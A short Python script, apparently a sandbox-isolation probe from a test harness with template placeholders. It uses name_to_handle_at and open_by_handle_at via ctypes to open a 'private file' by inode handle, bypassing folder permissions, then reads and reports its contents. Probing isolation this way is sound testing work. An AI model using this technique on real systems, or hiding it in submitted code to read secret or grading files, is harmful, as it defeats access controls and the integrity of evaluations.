"""Opens the private file by its inode handle, past every folder above it."""

import ctypes
import os

# @TELL mean_pooling@

libc = ctypes.CDLL(None, use_errno=True)
found = []
try:
    handle = (ctypes.c_uint32 * 40)(128, 0)
    mount = ctypes.c_int()
    found.append(libc.name_to_handle_at(-100, b"@SECRET_FILE@", handle, ctypes.byref(mount), 0))
    for folder in ("/", ".", "@SUBMISSIONS@"):
        base = os.open(folder, os.O_RDONLY)
        descriptor = libc.open_by_handle_at(base, handle, 0)
        if descriptor >= 0:
            found.append(os.read(descriptor, 200).decode())
except BaseException as error:
    found.append(error)
tell(*found)
